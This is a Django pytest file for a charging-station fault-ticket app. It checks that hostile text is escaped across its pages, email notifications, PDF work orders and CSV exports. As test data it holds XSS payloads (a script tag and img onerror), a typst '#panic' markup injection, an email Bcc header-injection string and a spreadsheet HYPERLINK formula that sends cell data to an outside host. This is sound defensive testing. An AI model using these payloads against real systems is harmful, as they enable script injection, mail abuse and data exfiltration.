"""S29: what a station, a driver or a colleague wrote is words wherever a ticket is shown."""

import csv
import io
from typing import Any

import pytest
from django.core import mail
from django.db import connection
from django.test import Client
from django.urls import reverse

from chargenet.core import clock
from chargenet.core.models import User
from faults import detection, notifications, tickets
from faults.models import Ticket
from faults.notifications import Told, letters
from faults.queries import orders, pages
from stations.models import Cable, Location, Station
from tests import cast
from tests.as_web import AsWeb
from tests.cast import Cast
from tests.integration.faults import scene

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert(1)</script>"
# Read as markup it would stop the paper from being made.
HOSTILE = f'{SCRIPT}"><img src=x onerror=alert(2)>#panic("S29")$x$'
FORMULA = '=HYPERLINK("https://x.example?"&A1;"click")'
PAGES = (
    "ticket_page",
    "ticket_around",
    "ticket_talk",
    "ticket_order",
    "ticket_list",
    "fault_list",
    "dashboard",
    "station_list",
    "station_page",
    "station_messages",
    "message_list",
    "session_list",
    "session_page",
    "command_list",
    "healing_list",
    "vendor_code_seen",
    "network_map",
)


@pytest.fixture
def made() -> Cast:
    """A station whose every word is hostile reports a fault with a hostile text."""
    made = cast.make_cast()
    now = clock.now()
    Location.objects.filter(pk=made.location.pk).update(
        name=HOSTILE, street=HOSTILE, latitude="55.6", longitude="13.0"
    )
    Station.objects.filter(pk=made.ac_station.pk).update(
        name=HOSTILE, vendor=HOSTILE[:50], model=HOSTILE[:50], firmware_version=HOSTILE[:50]
    )
    Cable.objects.filter(pk=made.cable.pk).update(serial_number=HOSTILE[:40])
    User.objects.filter(pk=made.dag.pk).update(name=HOSTILE)
    User.objects.filter(pk=made.cilla.pk).update(language="en")
    scene.hear(made.ac_station, at=now)
    for number in range(3):
        session = scene.charge(made.socket, None, at=now - scene.minutes(60 * (number + 2)))
        session.id_tag = HOSTILE[:36]
        session.save(update_fields=["id_tag"])
    row = scene.say(made.socket, "Faulted", at=now, code="OtherError", vendor=HOSTILE[:50])
    type(row).objects.filter(pk=row.pk).update(detail=HOSTILE)
    scene.report(made.tethered, HOSTILE[:50], at=now, tech_info=HOSTILE, tech_code=HOSTILE[:50])
    scene.say(made.socket, "Faulted", at=now, code="ReaderFailure", vendor=HOSTILE[:50])
    detection.examine_station(station_id=made.ac_station.pk, as_of=now + scene.minutes(5))
    _talk(made)
    _work(made)
    return made


def _talk(made: Cast) -> None:
    frame = f'[2,"1","StatusNotification",{{"info":"{SCRIPT}","idTag":"{SCRIPT}"}}]'
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO stations_ocppframe (operator_id, station_id, received_at, is_inbound,"
            " action, error, frame) VALUES (%s, %s, now(), true, %s, %s, %s)",
            [made.operator.pk, made.ac_station.pk, SCRIPT, SCRIPT, frame.encode()],
        )


def _work(made: Cast) -> None:
    ticket = Ticket.objects.earliest("pk")
    known: dict[str, Any] = {
        "ticket_id": ticket.pk,
        "actor_id": made.dag.pk,
        "as_of": clock.now() + scene.minutes(6),
    }
    tickets.assign_ticket(**known, assignee_id=made.cilla.pk)
    tickets.add_note(**known, text=HOSTILE, idempotency_key="n")
    tickets.add_part(
        **known, name=HOSTILE, number=HOSTILE, quantity=1, is_used=False, idempotency_key="p"
    )
    tickets.wait(**known, reason=HOSTILE)


def read(made: Cast, as_web: AsWeb, name: str, **query: str) -> str:
    keys = {
        "station": [made.ac_station.pk],
        "session": [made.socket.sessions.latest("pk").pk],
        "ticket": [Ticket.objects.earliest("pk").pk],
    }
    is_list = name.endswith("_list") or name in {"dashboard", "vendor_code_seen", "network_map"}
    args = [] if is_list else keys[name.partition("_")[0]]
    client = Client(headers={"accept-language": "en"})
    client.force_login(made.cilla)
    with as_web(None):
        answer = client.get(reverse(name, args=args), query)
    assert answer.status_code == 200, name
    return answer.content.decode()


def test_no_page_holds_a_tag_that_somebody_else_wrote(made: Cast, as_web: AsWeb) -> None:
    shown = {name: read(made, as_web, name) for name in PAGES}

    assert [name for name, page in shown.items() if SCRIPT in page or "<img src=x" in page] == []
    told = {name for name, page in shown.items() if "&lt;script&gt;alert(1)" in page}
    told |= {name for name, page in shown.items() if "\\u003Cscript\\u003Ealert(1)" in page}
    assert set(PAGES) - told <= {"command_list", "healing_list"}, "the words are there, as words"


def test_a_letter_is_plain_text_and_no_word_of_a_station_is_a_line_of_its_own(made: Cast) -> None:
    Station.objects.filter(pk=made.ac_station.pk).update(
        name="A\r\nBcc: all@example.org\r\nFirst steps:\r\nCall 070-000"
    )
    notifications.gather_due(as_of=clock.now() + scene.minutes(60))
    notifications.relay_due(as_of=clock.now() + scene.minutes(60))

    ticket = pages.tickets_for(made.cilla).get(pk=Ticket.objects.earliest("pk").pk)
    alone = letters.letter(Told(ticket, "opened", "0"), made.cilla)["text"]
    assert "Call 070-000" in alone
    assert not [line for line in alone.splitlines() if line.startswith("Call 070")]
    assert mail.outbox
    for letter in mail.outbox:
        raw = letter.message()
        assert raw.get_content_type() == "text/plain"
        assert raw["Bcc"] is None
        assert "\n" not in letter.subject


def test_a_work_order_is_made_of_words(made: Cast, as_web: AsWeb) -> None:
    ticket = pages.tickets_for(made.cilla).earliest("pk")
    order = orders.order_of(ticket)
    assert any("#panic" in note for note in order.notes)
    client = Client()
    client.force_login(made.cilla)
    with as_web(None):
        paper = client.get(reverse("ticket_order_pdf", args=[ticket.pk]))

    # as markup the words would have stopped the paper: typst runs #panic
    assert paper.content.startswith(b"%PDF-")
    assert b"/JavaScript" not in paper.content


@pytest.mark.parametrize("name", ["ticket_list", "fault_list", "station_list", "session_list"])
def test_no_cell_of_a_file_is_a_formula(made: Cast, as_web: AsWeb, name: str) -> None:
    Station.objects.filter(pk=made.ac_station.pk).update(name=FORMULA)
    Location.objects.filter(pk=made.location.pk).update(name=f"\n{FORMULA}")
    User.objects.filter(pk=made.cilla.pk).update(name="@SUM(1)")

    file = read(made, as_web, name, format="csv").removeprefix("\ufeff")

    cells = [cell for row in csv.reader(io.StringIO(file)) for cell in row]
    assert FORMULA in file.replace('""', '"')
    assert not [cell for cell in cells if cell.startswith(("=", "@", "\n", "\t", "\r", "+"))]
